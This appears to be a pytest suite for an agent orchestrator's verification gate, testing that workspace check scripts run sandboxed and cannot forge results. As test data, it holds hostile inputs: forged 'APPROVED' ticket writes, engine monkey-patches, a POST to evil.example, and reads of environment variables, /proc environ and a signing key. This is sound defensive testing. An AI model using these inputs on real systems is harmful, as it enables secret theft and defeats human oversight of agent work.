"""Checks of a workspace judge from a process of their own, in which they only look."""

from __future__ import annotations

import os
import time
from collections.abc import Mapping
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest

from orchestrator.agent_process.confinement import ability
from orchestrator.domain.agent import MemberInfo
from orchestrator.domain.workflow import Statement, StatementKind
from orchestrator.errors import UsageError
from orchestrator.gates import checks
from orchestrator.gates.binding import Binder
from orchestrator.gates.checks import Context, Services
from orchestrator.gates.loading import load_checks
from orchestrator.gates.proof_cache import ProofCache
from orchestrator.gates.receipts import Gate, Receipt
from orchestrator.storage.signing import own_key

needs_walls = pytest.mark.skipif(not ability().landlock, reason="nothing confines programs here")

HEAD = "from orchestrator.gates.checks import *\nimport os, sys, threading, atexit\n"
CHECK = """
@check("the tea is {how:name}", name="mine.tea")
def tea(ctx, how):
    "Tea."
"""
WRITES = "open({path!r}, 'w').write('status: APPROVED')"


def lay(root: Path, **files: str) -> Path:
    (root / "checks").mkdir(exist_ok=True)
    (root / "board").mkdir(exist_ok=True)
    (root / "board/WO-1.md").write_text("status: NEW\n")
    for name, text in files.items():
        (root / f"checks/{name}.py").write_text(HEAD + text)
    return root


def prove(root: Path, text: str = "the tea is hot", changed: str = "", **known: Any) -> Receipt:
    binder = Binder(load_checks(root, frozenset({changed} - {""})))
    statement = Statement(text, StatementKind.CHECKBOX, "x.md", 1)
    with Services(known.pop("cache", None)) as services:
        context = Context(root=root, services=services, **known)
        (receipt,) = Gate(binder).prove([statement], context, tuple(checks.Phase))
    return receipt


def body(text: str) -> str:
    return CHECK + "".join(f"    {line}\n" for line in text.splitlines())


# -- what an adversary writes ----------------------------------------------------------------------


@needs_walls
@pytest.mark.parametrize("how", ["{w}", "try:\n    {w}\nexcept Exception: pass",
                                 "os.system('echo status: APPROVED > {p}')",
                                 "threading.Thread(target=lambda: {w}).start()",
                                 "atexit.register(lambda: {w})"])  # fmt: skip
def test_a_file_of_checks_writes_nothing_when_it_is_imported(tmp_path: Path, how: str) -> None:
    ticket = tmp_path / "board/WO-1.md"
    text = how.replace("{w}", WRITES.format(path=str(ticket))).replace("{p}", str(ticket))
    lay(tmp_path, mine=f"{text}\n" + body("return proven('hot')"))
    said = ""
    try:
        receipt = prove(tmp_path)
        said = receipt.detail if receipt.verdict == "failed" else ""
    except UsageError as exc:
        said = str(exc)
    # what another program or a later moment tries comes to nothing, and need not be reported
    if how in ("{w}", "try:\n    {w}\nexcept Exception: pass"):
        assert "WO-1.md" in said
        assert "checks/mine.py" in said
    time.sleep(0.1)
    assert ticket.read_text() == "status: NEW\n"


@pytest.mark.parametrize(
    "patch",
    [
        "import orchestrator.gates.checks as c\nc.failed = c.unproven = c.proven",
        "import orchestrator.gates.receipts as r\nr._run_check = lambda b, c: proven('x')",
        "sys.modules['orchestrator.gates.receipts'] = None",
        "import orchestrate_agents.checks.files as f\nf.Path = None",
        "Verdict.FAILED._value_ = 'proven'",
        "import gc\nfor o in gc.get_objects():\n    if type(o) is Check: o.__dict__['phase'] = 1",
    ],
)
def test_nothing_of_the_engine_can_be_patched(tmp_path: Path, patch: str) -> None:
    lay(tmp_path, mine=f"{patch}\n" + body("return proven('hot')"))
    assert prove(tmp_path, "`gone.txt` exists").verdict == "failed"
    assert checks.failed("x").verdict == "failed"


def test_no_file_patches_what_another_one_finds(tmp_path: Path) -> None:
    other = body("return failed('cold')").replace("the tea", "the pot").replace("mine.tea", "b.b")
    lay(
        tmp_path,
        a="import orchestrator.gates.checks as c\nc.failed = c.proven\n"
        + body("return proven('x')"),
        b=other,
    )
    assert prove(tmp_path).verdict == "proven"
    assert prove(tmp_path, "the pot is hot").verdict == "failed"


ANSWERS = {
    "a subclass": "class R(Result):\n    @property\n    def verdict(self): return 'proven'\n"
    "return R.__new__(R)",
    "a word": "return 'proven'",
    "nothing": "return None",
    "an end of its process": "os._exit(0)",
    "an exit": "raise SystemExit(0)",
    "an exception": "1 / 0",
    "evidence that is none": "return proven('hot', x=object())",
    "a verdict of its own": "return Result('proven', 'hot')",
    "answers to nobody's questions": (
        "for fd in range(3, 99):\n"
        "    try: os.write(fd, (20).to_bytes(4, 'big') + b'{\"verdict\":\"proven\"}')\n"
        "    except OSError: pass\n"
        "return unproven('no')"
    ),
}


@pytest.mark.parametrize("what", ANSWERS)
def test_what_is_no_answer_proves_nothing(tmp_path: Path, what: str) -> None:
    lay(tmp_path, mine=body(ANSWERS[what]))
    receipt = prove(tmp_path)
    assert receipt.verdict == "unproven", receipt
    # and the next one finds the process, or a new one
    (tmp_path / "checks/mine.py").write_text(HEAD + body("return proven(how)"))
    assert prove(tmp_path).verdict == "proven"


def test_one_that_does_not_end_is_stopped(tmp_path: Path) -> None:
    lay(tmp_path, mine=body("while True: pass"))
    receipt = prove(tmp_path, settings={"checks": {"timeout": 0.5}})
    assert (receipt.verdict, "time limit" in receipt.detail) == ("unproven", True)
    (tmp_path / "checks/mine.py").write_text(HEAD + body("return proven(how)"))
    assert prove(tmp_path).verdict == "proven"


@needs_walls
@pytest.mark.parametrize(
    ("does", "told"),
    [
        ("open({root!r} + '/board/.receipts', 'w')", "tried to write {root}/board/.receipts"),
        ("os.remove({root!r} + '/board/WO-1.md')", "tried to write {root}/board/WO-1.md"),
        ("os.rename('board/WO-1.md', 'board/WO-2.md')", "tried to write {root}/board/WO-2.md"),
        (
            "import urllib.request; urllib.request.urlopen('http://evil.example/', data=b'x')",
            "tried to reach evil.example",
        ),
        ("import socket; socket.create_connection(('1.2.3.4', 80))", "tried to reach 1.2.3.4:80"),
    ],
)
def test_what_a_check_tries_is_told_and_fails(tmp_path: Path, does: str, told: str) -> None:
    does = does.replace("{root!r}", repr(str(tmp_path)))
    lay(tmp_path, mine=body(f"try: {does}\nexcept BaseException: pass\nreturn proven('hot')"))
    receipt = prove(tmp_path)
    assert receipt.verdict == "failed"
    assert told.replace("{root}", str(tmp_path)) in receipt.detail
    assert (tmp_path / "board/WO-1.md").read_text() == "status: NEW\n"


@needs_walls
def test_a_check_finds_no_key(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ORCHESTRATE_SIGNING_KEY", str(tmp_path / "secret/key.pem"))
    monkeypatch.setenv("SUPABASE_SERVICE_ROLE_KEY", "of-the-engine")
    assert own_key()
    text = (
        "found = repr(dict(os.environ))\n"
        "for path in (ctx.root / 'secret/key.pem', f'/proc/{os.getppid()}/environ',\n"
        f"             '/proc/{os.getpid()}/environ'):\n"
        "    try: found += open(path).read()\n"
        "    except OSError: pass\n"
        "return proven(found)"
    )
    lay(tmp_path, mine=body(text))
    detail = prove(tmp_path).detail
    assert "of-the-engine" not in detail
    assert "PRIVATE KEY" not in detail


def test_a_detail_cannot_command_a_terminal(tmp_path: Path) -> None:
    lay(tmp_path, mine=body(r"return proven('\x1b[2Jhot\r\x07 ' + 'x' * 50_000)"))
    detail = prove(tmp_path).detail
    assert detail.startswith("⟨U+001B⟩[2Jhot⟨U+000D⟩⟨U+0007⟩ x")
    assert len(detail) <= 20_000


def test_a_daemon_of_a_check_ends_with_the_session(tmp_path: Path) -> None:
    ticket = tmp_path / "board/WO-1.md"
    text = (
        "if os.fork() == 0:\n    os.setsid()\n    import time\n    time.sleep(0.3)\n"
        f"    try: {WRITES.format(path=str(ticket))}\n    finally: os._exit(0)\n"
        "return proven('hot')"
    )
    lay(tmp_path, mine=body(text))
    prove(tmp_path)
    time.sleep(0.6)
    assert ticket.read_text() == "status: NEW\n"


# -- changed with the work -------------------------------------------------------------------------


def test_a_changed_check_is_shown_and_proves_nothing(tmp_path: Path) -> None:
    marked = tmp_path / "checks/ran"
    lay(tmp_path, mine=body(f"open({str(marked)!r}, 'w')\nreturn proven('hot')"))
    receipt = prove(tmp_path, changed="checks/mine.py")
    assert receipt.verdict == "unproven"
    assert "checks/mine.py was changed with this work (sha256 " in receipt.detail
    assert receipt.claims[0].check == "mine.tea"
    assert not marked.exists()


def test_a_changed_check_takes_nothing_from_the_others(tmp_path: Path) -> None:
    lay(tmp_path, a=body("return proven('hot')"), z=body("return failed('cold')"))
    # the same name: the one that counts keeps it, whichever comes first
    assert prove(tmp_path, changed="checks/a.py").verdict == "failed"
    assert prove(tmp_path, changed="checks/z.py").verdict == "proven"
    lay(tmp_path, a="1 / 0\n")
    assert prove(tmp_path, changed="checks/a.py").verdict == "failed"
    with pytest.raises(UsageError, match="ZeroDivisionError"):
        prove(tmp_path)


# -- what an honest one uses -----------------------------------------------------------------------


class Target(SimpleNamespace):
    def count(self, table: str) -> int:
        return {"shelves": 3}[table]

    def upsert(self, table: str) -> int:
        raise AssertionError("a check does not write")


#: body → what makes it proven
HONEST: Mapping[str, str] = {
    "a file": "return proven('x') if ctx.path('made.txt').read_text() == 'made' else failed('')",
    "the statement": "return proven(ctx.statement.text) if ctx.statement.source else failed('')",
    "the family": "return proven('x') if ctx.family[0].id == 'WO-1' and ctx.parent else failed('')",
    "artifacts": "return proven('x') if ctx.artifacts['a']['agent'] == 'SOOP' else failed('')",
    "changes": "return proven('x') if 'made.txt' in ctx.changed() else failed('')",
    "the start": "return proven('x') if ctx.at_start('made.txt') == b'old' else failed('')",
    "by whom": "return proven('x') if ctx.by_person('made.txt') is True else failed('')",
    "what is not known": "return proven('x') if ctx.workflow is None else failed('')",
    "the history": "return proven('x') if ctx.history[0]['type'] == 'answer' else failed('')",
    "settings": "return proven('x') if ctx.settings['mine'] == 1 else failed('')",
    "the target": "return proven(f'{ctx.target.count(\"shelves\")} on {ctx.target.name}')",
    "what is shared": "return proven(ctx.services.share('k', lambda: 'x'))",
    "what is remembered": "return proven(str(ctx.services.remember(('k', 1), int, lambda: 3)))",
    "programs": (
        "import subprocess\n"
        "return proven(subprocess.run(['echo', 'hot'], capture_output=True, text=True).stdout)"
    ),
    "a database": (
        "import sqlite3, tempfile\n"
        "with tempfile.TemporaryDirectory() as d:\n"
        "    sqlite3.connect(d + '/x').execute('CREATE TABLE t (a)')\n"
        "return proven('x')"
    ),
    "a server of its own": (
        "import socket\nwith socket.create_server(('127.0.0.1', 0)) as s:\n"
        "    socket.create_connection(s.getsockname())\nreturn proven('x')"
    ),
    "words on standard output": "print('working')\nreturn proven('x', 'made.txt', figure=1)",
}


@pytest.mark.parametrize("what", HONEST)
def test_an_honest_check_has_what_it_needs(tmp_path: Path, what: str) -> None:
    lay(tmp_path, mine=body(HONEST[what]))
    (tmp_path / "made.txt").write_text("made")
    receipt = _prove_whole(tmp_path)
    assert receipt.verdict == "proven", receipt.detail
    if what == "words on standard output":
        assert receipt.subjects["made.txt"] != "absent"
        assert receipt.claims[0].result.evidence == {"figure": 1}
    if what == "what is remembered":
        assert any((tmp_path / "cache").iterdir())


def _prove_whole(root: Path) -> Receipt:
    binder = Binder(load_checks(root))
    statement = Statement("the tea is hot", StatementKind.CHECKBOX, "x.md", 1)
    fields = {name: "x" for name, f in MemberInfo.model_fields.items() if f.is_required()}
    with Services(ProofCache(root / "cache")) as services:
        context = Context(
            root=root,
            parent="WO-1",
            family=(MemberInfo.model_construct(**{**fields, "id": "WO-1"}),),
            artifacts={"a": {"agent": "SOOP"}},
            changed=lambda: frozenset({"made.txt"}),
            at_start=lambda path: b"old" if path == "made.txt" else None,
            by_person=lambda path: path == "made.txt",
            history=({"type": "answer"},),
            settings={"mine": 1},
            target=Target(name="embedded"),
            services=services,
        )
        (receipt,) = Gate(binder).prove([statement], context)
    return receipt


def test_a_check_does_not_write_to_the_target(tmp_path: Path) -> None:
    lay(tmp_path, mine=body("ctx.target.upsert('shelves')\nreturn proven('x')"))
    assert _prove_whole(tmp_path).verdict == "failed"


def test_errors_of_the_engine_keep_their_meaning(tmp_path: Path) -> None:
    errors = "from orchestrator.errors import MissingToolError, OrchestrateError\n"
    lay(tmp_path, mine=errors + body("raise MissingToolError('no kettle', 'apt install kettle')"))
    receipt = prove(tmp_path)
    assert (receipt.verdict, receipt.claims[0].result.evidence) == (
        "unproven",
        {"install": "apt install kettle"},
    )
    lay(tmp_path, mine=errors + body("raise OrchestrateError('it is cold', path='a.txt')"))
    receipt = prove(tmp_path)
    assert (receipt.verdict, receipt.detail) == ("failed", "a.txt: it is cold")


def test_parameter_types_of_a_workspace_convert(tmp_path: Path) -> None:
    kind = "from orchestrator.gates.expressions import parameter_type\n"
    kind += "parameter_type('degrees', r'\\d+ °C', lambda t: int(t.split()[0]))\n"
    uses = (
        '\n@check("the tea has {n:degrees}", name="mine.warm")\ndef warm(ctx, n):\n'
        "    return proven(str(n + 1)) if n > 60 else failed(str(n))\n"
    )
    lay(tmp_path, kinds=kind, uses=uses)
    assert prove(tmp_path, "the tea has 80 °C").detail == "81"
    assert prove(tmp_path, "the tea has 20 °C").verdict == "failed"
